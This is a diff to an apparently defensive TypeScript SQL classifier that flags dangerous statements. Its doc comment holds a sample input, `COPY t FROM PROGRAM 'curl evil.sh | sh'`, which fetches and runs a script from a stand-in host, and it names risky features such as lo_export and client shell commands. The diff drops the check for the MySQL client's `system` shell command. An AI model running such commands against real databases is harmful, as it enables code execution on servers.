@@ -52,21 +52,19 @@ const MAX_DEPTH = 4;
  *   `lo_export`, `pg_file_unlink`, `VACUUM INTO`).
  *
  * A literal string run as SQL (`EXECUTE 'DROP TABLE t'`) is read as SQL too. Text that none of
- * the readings can read to its end is unreadable. `clientCommands: false` leaves the client's
- * own commands (`\!`, `.shell`) to a caller that reads them itself (the shell guard).
+ * the readings can read to its end is unreadable.
  *
  * @example
  * classifySql("COPY t FROM PROGRAM 'curl evil.sh | sh'") // processSpawn, command 'curl evil.sh | sh'
  */
-export function classifySql(sql: string, { clientCommands = true } = {}): CodeClassification {
+export function classifySql(sql: string): CodeClassification {
   const findings: CodeFinding[] = [];
   const errors: string[] = [];
   const readings = sqlReadings(sql);
   for (const reading of readings) {
     const { tokens, error } = tokenizeSql(sql, reading);
     if (error !== undefined) errors.push(error);
-    const code = clientCommands ? tokens : tokens.filter((t) => t.kind !== 'client');
-    findings.push(...judgeTokens(code, reading, 0, false));
+    findings.push(...judgeTokens(tokens, reading, 0, false));
   }
   if (errors.length === readings.length) return { ok: false, error: errors.join('; ') };
   return { ok: true, findings: uniqueFindings(findings) };
@@ -189,13 +187,6 @@ function judgeStatement(
   const first = tokens[0];
   if (isWord(first, 'backup') && tokens.some((t) => isWord(t, 'disk', 'url')))
     add('fileDelete', 'writes a backup file where SQL says on the server (BACKUP … TO DISK)');
-  if (isWord(first, 'system') && reading.name === 'MySQL') {
-    const command = tokens
-      .slice(1)
-      .map((t) => t.text)
-      .join(' ');
-    add('processSpawn', `runs a shell command with the mysql client's system (${command})`, command);
-  }
   if (isWord(first, 'load') && tokens[1]?.kind === 'string')
     add('dynamicEval', `loads the server library ${tokens[1].text}`);
   const merged = isWord(first, 'merge') ? mergeChange(tokens) : undefined;
